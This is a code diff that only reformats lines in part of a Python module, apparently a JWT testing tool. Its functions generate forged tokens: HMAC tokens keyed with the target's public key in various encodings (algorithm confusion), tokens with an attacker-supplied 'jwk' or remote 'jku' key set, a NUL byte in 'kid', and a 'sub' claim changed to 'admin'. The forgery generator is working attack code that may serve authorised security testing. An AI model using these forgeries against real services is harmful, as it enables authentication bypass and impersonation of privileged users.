@@ -27,16 +27,24 @@ def _part(value: Any) -> str:
 
 def _secrets(jwk: dict[str, Any]) -> dict[str, bytes]:
     """The public key in every form somebody might use it as an HMAC secret (CVE-2016-10555 and its kin)."""
-    secrets = {"its JWK": json.dumps(jwk).encode(), "nothing": b"", "its kid": str(jwk.get("kid")).encode()}
+    secrets = {
+        "its JWK": json.dumps(jwk).encode(),
+        "nothing": b"",
+        "its kid": str(jwk.get("kid")).encode(),
+    }
     if jwk["kty"] == "RSA":
-        numbers = (int.from_bytes(base64.urlsafe_b64decode(jwk[name] + "==")) for name in ("e", "n"))
+        numbers = (
+            int.from_bytes(base64.urlsafe_b64decode(jwk[name] + "==")) for name in ("e", "n")
+        )
         public = rsa.RSAPublicNumbers(*numbers).public_key()
         pem, spki = serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo
         secrets["its PEM"] = public.public_bytes(pem, spki)
         secrets["its PEM, stripped"] = secrets["its PEM"].strip()
         secrets["its DER"] = public.public_bytes(serialization.Encoding.DER, spki)
         secrets["its PKCS#1 PEM"] = public.public_bytes(pem, serialization.PublicFormat.PKCS1)
-        secrets["its SSH text"] = public.public_bytes(serialization.Encoding.OpenSSH, serialization.PublicFormat.OpenSSH)
+        secrets["its SSH text"] = public.public_bytes(
+            serialization.Encoding.OpenSSH, serialization.PublicFormat.OpenSSH
+        )
         secrets["its modulus"] = base64.urlsafe_b64decode(jwk["n"] + "==")
     return secrets
 
@@ -53,7 +61,9 @@ def attacks(token: str, jwk: dict[str, Any], elsewhere: str) -> dict[str, str]:
     for name, secret in _secrets(jwk).items():
         for alg, digest in (("HS256", hashlib.sha256), ("HS512", hashlib.sha512)):
             signed = f"{_part({**header, 'alg': alg})}.{body}"
-            found[f"{alg} with {name} as the secret"] = f"{signed}.{b64(hmac.new(secret, signed.encode(), digest).digest())}"
+            found[f"{alg} with {name} as the secret"] = (
+                f"{signed}.{b64(hmac.new(secret, signed.encode(), digest).digest())}"
+            )
     keys: dict[str, dict[str, Any]] = {
         "its own key in the header": {"jwk": MINE.jwk()},
         "its own key set's address": {"jku": f"{elsewhere}/jwks"},
@@ -70,7 +80,9 @@ def attacks(token: str, jwk: dict[str, Any], elsewhere: str) -> dict[str, str]:
         "a NUL in kid": {"kid": "a\x00b"},
     }
     for name, extra in keys.items():
-        found[f"signed by the attacker, {name}"] = MINE.token(claims, **{"typ": header.get("typ", ...), **extra})
+        found[f"signed by the attacker, {name}"] = MINE.token(
+            claims, **{"typ": header.get("typ", ...), **extra}
+        )
     found |= {
         "other claims": f"{head}.{_part({**claims, 'sub': 'admin'})}.{signature}",
         "another header": f"{_part({**header, 'x': 1})}.{body}.{signature}",
